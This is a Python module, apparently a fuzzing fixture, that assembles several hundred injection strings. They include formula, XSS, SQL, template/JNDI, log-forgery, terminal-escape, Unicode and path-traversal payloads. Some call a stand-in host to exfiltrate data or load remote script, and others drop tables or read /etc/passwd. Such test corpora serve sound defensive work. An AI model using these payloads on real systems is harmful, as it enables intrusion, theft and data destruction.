"""Texts that mean harm: to a spreadsheet, a page, a terminal, a log, a statement, a file name."""

from itertools import product

_FORMULAS = (
    "=1+1",
    "+45+1",
    "-2+3",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test";"click")',
    '=WEBSERVICE("http://x.test/?"&A1)',
    "=1+1;+45",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''",
    '="1+1"',
)
_BEFORE = (
    "",
    " ",
    "x ",
    "\t",
    "a\n",
    "\ufeff",
    "\u00a0",
    "\u200b",
    '"',
    "a;",
    "a,",
    "a\t",
    'a";',
    "a\r\n",
    "a;' ",
    'a; "',
    "a|",
    ";;",
)
TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    '"><a href="javascript:{}">',
    "<iframe srcdoc='{}'>",
    "<!--{}-->",
    "</title><b>{}</b>",
    "&lt;{}&gt;",
)
_SCRIPTS = ("alert(1)", "fetch('//x.test')", "document.cookie", "import('//x.test/a.js')", "1")
_ESCAPES = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x1b]8;;http://x.test\x1b\\link",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90q",
    "\x07",
    "\x08\x08\x08",
    "\x7f",
    "\x00",
    "\x0e\x0f",
    "\x85",
)
_LOGS = (
    '\n{"event":"request","level":"info","status":200}',
    '\r\n{"event":"sign-in"}',
    '\u2028{"event":"x"}',
    '\u2029{"event":"x"}',
    '\x0b{"event":"x"}',
    '\x0c{"event":"x"}',
    '"}\n{"level":"error',
    "\\n{}",
    '","actor":"admin',
    "event='forged' level='info'",
    "\r2026-03-02 INFO signed in",
)
_HIDDEN = (
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u200f",
    "\u200b\u200b",
    "\ufeff",
    "\u00ad",
    "e\u0301",
    "\u0130",
    "\U0001f600",
    "\ufffd",
    "\ufffe",
    "\U000e0041",
    "a" + "\u0300" * 60,
)
_STATEMENTS = (
    "'; DROP TABLE candidates;--",
    "' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM audit_log;--",
    "%' ESCAPE '",
    "\\'; --",
    "$$;SELECT 1;$$",
    "/* */",
    "NULL",
    "nan",
)
_TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://x.test/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n",
    "{0.__class__}",
    "%(x)s",
)
_PATHS = (
    "../../etc/passwd",
    "..\\..\\a",
    "/dev/null",
    "CON",
    "a/b",
    "file:///etc/passwd",
    "~root",
    "a\x00.csv",
    ".",
)
_LIKE_OTHERS = (
    "true",
    "1e999",
    "0461",
    "007",
    "2026-03-02",
    "1.234",
    "Infinity",
    "[]",
    "{}",
    "null",
    "-",
    "'",
    "=",
)
_AROUND = ("", "Anna ", "a" * 150)


def _made() -> dict[str, None]:
    made = dict.fromkeys(before + formula for before, formula in product(_BEFORE, _FORMULAS))
    made |= dict.fromkeys(tag.format(script) for tag, script in product(TAGS, _SCRIPTS))
    others = (*_ESCAPES, *_LOGS, *_HIDDEN, *_STATEMENTS, *_TEMPLATES, *_PATHS, *_LIKE_OTHERS)
    made |= dict.fromkeys(around + other for around, other in product(_AROUND, others))
    return made


PAYLOADS = tuple(_made())
"""More than five hundred, no two alike."""
